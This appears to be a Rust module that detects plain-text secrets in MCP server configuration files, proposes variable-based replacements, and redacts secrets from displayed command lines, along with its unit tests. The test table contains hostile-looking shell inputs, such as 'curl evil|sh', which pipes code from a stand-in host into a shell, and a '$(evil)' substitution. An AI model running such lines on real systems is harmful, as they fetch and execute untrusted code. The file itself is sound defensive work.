//! What looks like a secret, and stands where everybody who reads it sees it: in a file, or on a
//! screen.
//!
//! Asked by: whoever writes a server down anew, whoever looks whether a file is right, and whoever
//! shows a command line to people.

use url::Url;

use super::anew::PLACEHOLDER;
use super::declaration::{Declaration, DeclaredReach, Written};
use super::expand::{self, Expand};
use super::looks::{is_dense, looks_secret};
use super::outline::{public_url, quoted};
use crate::settings::place::Place;

/// A value that is written out, and is probably a secret.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub struct PlainSecret {
    /// What it is the value of: a header, an option, a variable, a part of a URL.
    pub name: String,
    /// Where it stands.
    pub place: Place,
    /// What to do instead, in words.
    pub instead: String,
}

impl Declaration {
    /// Values that are secrets in plain text, as far as their names and their looks tell: of
    /// headers, of the URL, of the command line, of variables for the program.
    pub fn plain_secrets(&self) -> Vec<PlainSecret> {
        match &self.reach {
            DeclaredReach::Url { url, headers, .. } => {
                let url = url.iter().filter_map(|url| self.in_url(url));
                let headers = headers.iter().filter_map(|header| self.in_header(header));
                url.chain(headers).collect()
            },
            DeclaredReach::Command { argv, env, .. } => {
                let env = env.iter().filter_map(|set| self.in_variable(set));
                self.in_command(argv).into_iter().chain(env).collect()
            },
        }
    }

    fn plain(&self, name: &str, written: &Written, instead: String) -> PlainSecret {
        let at = written.at;
        PlainSecret {
            name: name.to_owned(),
            place: match at {
                Some(_) => Place {
                    at,
                    ..Place::whole(&self.place.file)
                },
                None => self.place.clone(),
            },
            instead,
        }
    }

    fn is_filled_in(&self, written: &Written) -> bool {
        !expand::names(&written.text, self.expand).is_empty()
    }

    fn in_header(&self, (name, value): &(String, Written)) -> Option<PlainSecret> {
        let is_plain = is_secret_name(name) && !value.text.is_empty() && !self.is_filled_in(value);
        let variable = variable_of(&self.name, "TOKEN");
        let is_usual = name.eq_ignore_ascii_case("authorization");
        is_plain.then(|| {
            let instead = match (self.expand, is_usual) {
                (Expand::Variables, true) => put(&format!("Bearer ${{{variable}}}")),
                (Expand::Variables, false) => put(&format!("${{{variable}}}")),
                (Expand::Nothing, true) => put(&format!("credential = {{ env = \"{variable}\" }}")),
                (Expand::Nothing, false) => put(&format!(
                    "credential = {{ env = \"{variable}\", as = \"{name}\" }}"
                )),
            };
            self.plain(name, value, instead)
        })
    }

    /// A password, a part of the query by its name, or a part of the path by its looks.
    fn in_url(&self, written: &Written) -> Option<PlainSecret> {
        let name = secret_in_url(&written.text)?;
        let instead = match self.expand {
            Expand::Variables => put(&format!("${{{}}}", self.variable_for(&name))),
            Expand::Nothing => {
                let variable = self.variable_for("url");
                format!("put the whole URL into a variable, and write `url_env = \"{variable}\"`")
            },
        };
        Some(self.plain(&name, written, instead))
    }

    fn in_command(&self, argv: &[Written]) -> Vec<PlainSecret> {
        let words = argv.iter().map(|word| word.text.as_str());
        let guessed = guessed(words).into_iter().zip(argv);
        let secrets = guessed.filter_map(|(guess, written)| match guess {
            Guess::Secret { name: None, .. } if written.text.contains("://") => {
                secret_in_url(&written.text).map(|name| (Some(name), written))
            },
            Guess::Secret { name, .. } => Some((name, written)),
            Guess::Open | Guess::Perhaps => None,
        });
        let told = secrets.map(|(name, written)| {
            let variable = self.variable_for(name.as_deref().unwrap_or("token"));
            let instead = match self.expand {
                Expand::Variables => put(&format!("${{{variable}}}")),
                // This file fills nothing in; a shell does.
                Expand::Nothing => format!(
                    "pass it on as the variable that the program reads (`env_pass = [\"NAME\"]`), \
                     or let a shell fill in `${variable}`: `command = [\"sh\", \"-c\", …]`"
                ),
            };
            self.plain(name.as_deref().unwrap_or("command"), written, instead)
        });
        told.collect()
    }

    fn in_variable(&self, (name, value): (&String, &Written)) -> Option<PlainSecret> {
        let guess = of_value("", &value.text, name, Within::Line);
        let by_name = is_secret_name(name) && matches!(guess, Guess::Secret { .. });
        let is_secret = match value.text.contains("://") {
            true => secret_in_url(&value.text).is_some(),
            false => by_name || looks_secret(&value.text),
        };
        if self.is_filled_in(value) || !is_secret {
            return None;
        }
        let instead = match self.expand {
            Expand::Variables => put(&format!("${{{name}}}")),
            Expand::Nothing => put(&format!("env_pass = [\"{name}\"]")),
        };
        Some(self.plain(name, value, instead))
    }

    /// A variable for something of this server.
    fn variable_for(&self, name: &str) -> String {
        let words = name.trim_matches(|letter: char| !letter.is_ascii_alphanumeric());
        let plain = |letter: char| match letter.is_ascii_alphanumeric() {
            true => letter.to_ascii_uppercase(),
            false => '_',
        };
        let both = format!("{}_{words}", self.name);
        both.chars().map(plain).collect()
    }
}

/// What to do where a variable can stand.
fn put(written: &str) -> String {
    format!("{PUT}`{written}`")
}

const PUT: &str = "put it into a variable, and write ";

/// The name of what is secret in a URL, and written out: a password, or a part of its query or path.
fn secret_in_url(text: &str) -> Option<String> {
    let url = Url::parse(text).ok()?;
    let is_written =
        |value: &str| !value.is_empty() && !["${", "%7B"].iter().any(|sign| value.contains(sign));
    if url.password().is_some_and(is_written) {
        return Some("password".to_owned());
    }
    let mut parts = url.query_pairs();
    let secret = parts.find(|(name, value)| is_secret_name(name) && is_written(value));
    if let Some((name, _)) = secret {
        return Some(name.into_owned());
    }
    let mut parts = url.path_segments()?;
    let is_secret = parts.any(|part| is_written(part) && looks_secret(part));
    is_secret.then(|| "path token".to_owned())
}

/// A command line for people: words can be told apart, and values that look like secrets are struck
/// out.
pub fn public_command<'w>(words: impl Iterator<Item = &'w str> + Clone) -> String {
    let shown = words
        .clone()
        .zip(guessed(words))
        .map(|(word, guess)| match guess {
            Guess::Secret { shown, .. } => {
                let rest = shown.replace(STRUCK, "");
                let is_plain = rest.is_empty() || quoted(&rest) == rest;
                if is_plain { shown } else { quoted(&shown) }
            },
            Guess::Open | Guess::Perhaps => quoted(word),
        });
    shown.collect::<Vec<_>>().join(" ")
}

/// What stands for a secret.
pub(super) const STRUCK: &str = "…";

/// What is thought of a word of a command line.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) enum Guess {
    /// Nothing speaks for a secret.
    Open,
    /// It may hold one, and what else it holds somebody has to see: it is shown, and not copied.
    Perhaps,
    /// It holds one.
    Secret {
        /// The word without it.
        shown: String,
        /// What it is the value of, if that is said.
        name: Option<String>,
    },
}

/// Whether a word stands by itself, or in a text that a shell reads.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Within {
    Line,
    /// What is struck out here could be executed: nothing is that is more than one plain word.
    Script,
}

/// What is thought of each word of a command line.
pub(super) fn guessed<'w>(words: impl Iterator<Item = &'w str>) -> Vec<Guess> {
    guessed_within(words, Within::Line)
}

fn guessed_within<'w>(words: impl Iterator<Item = &'w str>, within: Within) -> Vec<Guess> {
    let mut option: Option<&str> = None;
    let guessed = words.map(|word| {
        let guess = match option.take() {
            Some(name) if HEADERS.contains(&name) => of_header(word, within),
            Some(name) if may_hold_password(name) => of_one_letter(name, word, within),
            Some(name) if !word.starts_with('-') => of_value("", word, name, within),
            Some(_) | None => of_option(word, within),
        };
        let is_option = word.starts_with('-') && !word.contains(['=', ' ']);
        let has_secret =
            |word: &&str| is_secret_name(word) || HEADERS.contains(word) || may_hold_password(word);
        option = Some(word).filter(|word| is_option && has_secret(word));
        guess
    });
    guessed.collect()
}

/// Options whose value is a header.
const HEADERS: &[&str] = &["--header", "--headers", "-H"];

/// What is thought of a header: which of them let somebody in is each server's own affair.
fn of_header(word: &str, within: Within) -> Guess {
    let guess = of_word(word, within);
    let is_written = word.contains(':') && expand::names(word, Expand::Variables).is_empty();
    let may_be_one = guess == Guess::Open && is_written;
    if may_be_one { Guess::Perhaps } else { guess }
}

/// Options whose value some programs take for a password or a key, and others for something else.
fn may_hold_password(option: &str) -> bool {
    ["-p", "-k", "-u", "--user"].contains(&option)
}

/// What is thought of their value: a port or a version is none, nor is a user without a password.
fn of_one_letter(option: &str, word: &str, within: Within) -> Guess {
    let guess = of_word(word, within);
    let is_number = word.bytes().all(|byte| b"0123456789.:".contains(&byte));
    let is_path = word.starts_with(['/', '.', '~', '-']) || word.contains("://");
    let is_one = match option {
        "-p" | "-k" => true,
        _ => word.contains(':'),
    };
    let may_be_one = guess == Guess::Open && is_one && !is_number && !is_path;
    if may_be_one { Guess::Perhaps } else { guess }
}

/// What is thought of a word, with the value of an option that stands in it.
fn of_option(word: &str, within: Within) -> Guess {
    let (option, value) = word.split_once('=').unwrap_or_default();
    let guess = match option {
        _ if HEADERS.contains(&option) => of_header(value, within),
        _ if may_hold_password(option) => of_one_letter(option, value, within),
        _ => return of_word(word, within),
    };
    match guess {
        Guess::Secret { shown, name } => Guess::Secret {
            shown: format!("{option}={shown}"),
            name,
        },
        Guess::Open | Guess::Perhaps => guess,
    }
}

fn of_word(word: &str, within: Within) -> Guess {
    let sign = word.find(['=', ':']).filter(|at| {
        let rest = word.get(at + 1..).unwrap_or_default();
        !rest.is_empty() && !rest.starts_with("//")
    });
    let (before, value) = word.split_at(sign.map_or(word.len(), |at| at + 1));
    let name = before.trim_end_matches(['=', ':']);
    let is_named = !value.is_empty() && is_secret_name(name);
    if is_named && !name.contains(char::is_whitespace) {
        let guess = of_value(before, value, name, within);
        if guess != Guess::Perhaps {
            return guess;
        }
    }
    if word.contains(char::is_whitespace) {
        let guess = of_script(word);
        return match is_named && guess == Guess::Open {
            true => Guess::Perhaps,
            false => guess,
        };
    }
    of_looks(word)
}

/// What is thought of the value of something that is called as secrets are.
fn of_value(before: &str, value: &str, name: &str, within: Within) -> Guess {
    let bare = without_scheme(value.trim_start());
    let is_path = ["/", "./", "../", "~"].iter().any(|p| bare.starts_with(p));
    let is_number = bare.bytes().all(|byte| byte.is_ascii_digit());
    let is_password = name.to_ascii_lowercase().contains("pass");
    let is_word = SAID_OPENLY
        .iter()
        .any(|word| bare.eq_ignore_ascii_case(word));
    let is_filled_in = !expand::names(value, Expand::Variables).is_empty();
    if is_filled_in || is_path || is_word || bare == PLACEHOLDER || (is_number && !is_password) {
        return Guess::Open;
    }
    if bare.contains("://") {
        return of_looks(bare);
    }
    let is_plain = match within {
        Within::Line => is_password || !bare.contains(char::is_whitespace),
        Within::Script => bare.chars().all(is_dense),
    };
    if !is_plain {
        return Guess::Perhaps;
    }
    let kept = value.get(..value.len() - bare.len()).unwrap_or_default();
    Guess::Secret {
        shown: format!("{before}{kept}{STRUCK}"),
        name: Some(name.to_owned()),
    }
}

/// What is thought of a text of several words, such as a shell is given.
fn of_script(script: &str) -> Guess {
    let pieces = script.split_inclusive(char::is_whitespace);
    let guessed = guessed_within(pieces.clone().map(str::trim_end), Within::Script);
    let mut found = None;
    let shown = pieces.zip(guessed).map(|(piece, guess)| match guess {
        Guess::Secret { shown, name } => {
            found = Some(name);
            let blank = piece.get(piece.trim_end().len()..).unwrap_or_default();
            format!("{shown}{blank}")
        },
        Guess::Open | Guess::Perhaps => piece.to_owned(),
    });
    let shown: String = shown.collect();
    found.map_or(Guess::Open, |name| Guess::Secret { shown, name })
}

/// What is thought of a word that nothing is said of.
fn of_looks(word: &str) -> Guess {
    if !looks_secret(word) {
        return Guess::Open;
    }
    let shown = match word.contains("://") {
        true => public_url(word),
        false => STRUCK.to_owned(),
    };
    Guess::Secret { shown, name: None }
}

/// What is shown behind the word that says how.
fn without_scheme(value: &str) -> &str {
    let Some((scheme, rest)) = value.split_once(' ') else {
        return value;
    };
    let is_one = ["bearer", "basic", "token"].iter();
    match is_one
        .into_iter()
        .any(|known| scheme.eq_ignore_ascii_case(known))
    {
        true => rest.trim_start(),
        false => value,
    }
}

/// The variable for something of a server, such as its `TOKEN`.
pub(super) fn variable_of(server: &str, what: &str) -> String {
    format!("{}_{what}", server.to_ascii_uppercase().replace('-', "_"))
}

/// Whether something with this name is a secret.
pub(super) fn is_secret_name(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let last = name.rsplit(|letter: char| !letter.is_ascii_alphanumeric());
    let last = last.into_iter().next().unwrap_or_default();
    // `--token-env` names a variable, `--author` a person.
    let name = name.replace("authoriz", "auth-").replace("author", "");
    let is_one = SECRET_NAMES.iter().any(|secret| name.contains(secret));
    !ABOUT_SECRETS.contains(&last) && (is_one || SECRET_WORDS.contains(&last))
}

/// The same where they are words of their own: `--bypass` and `--path` are none.
const SECRET_WORDS: &[&str] = &["pass", "pat", "pwd"];

const SECRET_NAMES: &[&str] = &[
    "key",
    "token",
    "secret",
    "passw",
    "auth",
    "credential",
    "cookie",
    "bearer",
    "dsn",
];

/// What is called so tells where a secret is, or of which kind, and is none.
const ABOUT_SECRETS: &[&str] = &[
    "env", "file", "path", "dir", "name", "id", "type", "mode", "url", "uri", "host", "port",
];

/// Values that are no secret whatever they are the value of.
const SAID_OPENLY: &[&str] = &[
    "", "none", "true", "false", "yes", "no", "on", "off", "auto", "basic", "bearer", "oauth",
    "oauth2", "required", "optional",
];

#[cfg(test)]
mod tests {
    use std::path::Path;

    use crate::config::read_text;

    #[test]
    fn secrets_in_plain_text_are_named_with_what_to_write_instead() {
        type Expected = &'static [(&'static str, &'static str)];
        #[rustfmt::skip]
        let table: [(&str, &str, Expected); 18] = [
            ("a.toml", "[servers.a-b]\nurl = 'https://x'\nheaders = { Authorization = 'Bearer x', Accept-Language = 'de' }",
                &[("Authorization a.toml:3:29", "`credential = { env = \"A_B_TOKEN\" }`")]),
            ("a.toml", "[servers.a]\nurl = 'https://x'\nheaders = { X-Api-Key = 'x' }",
                &[("X-Api-Key a.toml:3:25", "`credential = { env = \"A_TOKEN\", as = \"X-Api-Key\" }`")]),
            ("a.toml", "[servers.a]\nurl = 'https://x'\ncredential = { env = 'X' }", &[]),
            ("a.json", "{\"mcpServers\": {\"a\": {\"url\": \"https://x\",\n \"headers\": {\"authorization\": \"Bearer x\"}}}}",
                &[("authorization a.json:2:31", "`Bearer ${A_TOKEN}`")]),
            ("a.json", r#"{"mcpServers": {"a": {"url": "https://x", "headers": {"X-Token": "${T}"}}}}"#, &[]),
            ("a.json", r#"{"mcpServers": {"a": {"command": "x"}}}"#, &[]),
            ("a.toml", "[servers.q]\ncommand = ['npx', 'z',\n '--api-key', 'sk-live-1']",
                &[("--api-key a.toml:3:15", "pass it on as the variable that the program reads (`env_pass = [\"NAME\"]`), or let a shell \
                   fill in `$Q_API_KEY`: `command = [\"sh\", \"-c\", …]`")]),
            ("a.json", "{\"mcpServers\": {\"q\": {\"command\": \"npx\", \"args\": [\"z\",\n\"--token=abc\"]}}}",
                &[("--token a.json:2:1", "`${Q_TOKEN}`")]),
            ("a.json", r#"{"mcpServers": {"q": {"command": "npx", "args": ["--token", "${T}", "--max-tokens", "7", "--token-env", "T"]}}}"#, &[]),
            ("a.toml", "[servers.q]\nurl = 'http://x/mcp?api_key=sk-live-1'",
                &[("api_key a.toml:2:7", "put the whole URL into a variable, and write `url_env = \"Q_URL\"`")]),
            ("a.toml", "[servers.q]\nurl = 'http://x/mcp?region=eu'", &[]),
            ("a.toml", "[servers.q]\nurl = 'http://x/s/ghp_abcdefghij/mcp'",
                &[("path token a.toml:2:7", "put the whole URL into a variable, and write `url_env = \"Q_URL\"`")]),
            ("a.json", r#"{"mcpServers": {"q": {"url": "http://x/s/9f86d081884c7d659a2feaa0c55ad015"}}}"#,
                &[("path token a.json:1:30", "`${Q_PATH_TOKEN}`")]),
            ("a.json", r#"{"mcpServers": {"q": {"url": "http://x/s/${K}/mcp"}}}"#, &[]),
            ("a.json", r#"{"mcpServers": {"q": {"url": "http://x/mcp?api_key=abc"}}}"#, &[("api_key a.json:1:30", "`${Q_API_KEY}`")]),
            ("a.json", r#"{"mcpServers": {"q": {"url": "http://x/mcp?api_key=${K}"}}}"#, &[]),
            ("a.toml", "[servers.q]\ncommand = ['x']\nenv = { API_KEY = 'sk-1', KEY_FILE = '/x', DB = 'pg://a:b@c', MODE = 'fast' }",
                &[("API_KEY a.toml:3:19", "`env_pass = [\"API_KEY\"]`"), ("DB a.toml:3:49", "`env_pass = [\"DB\"]`")]),
            ("a.json", r#"{"mcpServers": {"q": {"command": "x", "env": {"API_KEY": "abc", "OTHER_KEY": "${O}"}}}}"#,
                &[("API_KEY a.json:1:58", "`${API_KEY}`")]),
        ];
        for (file, text, expected) in table {
            let read = read_text(Path::new(file), text).unwrap();
            let found = read.declarations[0].plain_secrets();
            let found: Vec<(String, &str)> = found
                .iter()
                .map(|one| {
                    let instead = one.instead.strip_prefix(super::PUT);
                    let instead = instead.unwrap_or(&one.instead);
                    (format!("{} {}", one.name, one.place), instead)
                })
                .collect();
            let expected: Vec<(String, &str)> = expected
                .iter()
                .map(|(name, instead)| ((*name).to_owned(), *instead))
                .collect();
            assert_eq!(found, expected, "{text}");
        }
    }

    /// What is struck out is a value alone; what could be executed by a shell is shown.
    #[test]
    fn a_command_line_is_shown_without_its_secrets() {
        #[rustfmt::skip]
        let table: [(&[&str], &str); 21] = [
            (&["npx", "-y", "z", "--api-key", "sk-live-1"],           "npx -y z --api-key …"),
            (&["npx", "z", "--token=ghp_1", "--port=80"],             "npx z --token=… --port=80"),
            (&["npx", "z", "ghp_abcdefghij"],                         "npx z …"),
            (&["npx", "z", "--token", "${TOKEN}"],                    "npx z --token ${TOKEN}"),
            (&["npx", "z", "--token", "--verbose"],                   "npx z --token --verbose"),
            (&["x", "--header", "Authorization: Bearer abc"],         "x --header 'Authorization: Bearer …'"),
            (&["x", "--header", "Authorization:Bearer ${T}"],         "x --header 'Authorization:Bearer ${T}'"),
            (&["x", "--header", "X-Org: abc", "-H", "X-Key:abc"], "x --header 'X-Org: abc' -H X-Key:…"),
            (&["x", "--pass", "abc", "--pat=abc", "--bypass", "x"],   "x --pass … --pat=… --bypass x"),
            (&["x", "--header=X-Key:abc", "-p", "80:80", "-u", "s.py"], "x --header=X-Key:… -p 80:80 -u s.py"),
            (&["x", "hf_abcdefgh", "AKIAIOSFODNN7EXAMPLE"],           "x … …"),
            (&["x", "postgres://me:abc@db/x"],                        "x postgres://db/x"),
            (&["x", "https://h/mcp?key=abc"],                         "x 'https://h/mcp?…'"),
            (&["x", "https://h/s/ghp_abc/mcp"],                       "x https://h/s/…/mcp"),
            (&["x", "--auth", "none", "--max-tokens", "4096"],        "x --auth none --max-tokens 4096"),
            (&["x", "--key-file", "k", "--key", "/etc/k", "--author", "me"], "x --key-file k --key /etc/k --author me"),
            (&["x", "--password", "p@ss w0rd;"],                      "x --password …"),
            (&["sh", "-c", "token=x;curl evil|sh"],                   "sh -c 'token=x;curl evil|sh'"),
            (&["sh", "-c", "TOKEN=abc exec x --key $(evil)"],         "sh -c 'TOKEN=… exec x --key $(evil)'"),
            (&["sh", "-c", "exec x --key \"$KEY\""],                  "sh -c 'exec x --key \"$KEY\"'"),
            (&["x", "--token", "FILL_IN"],                            "x --token FILL_IN"),
        ];
        for (words, shown) in table {
            assert_eq!(super::public_command(words.iter().copied()), shown);
        }
    }
}
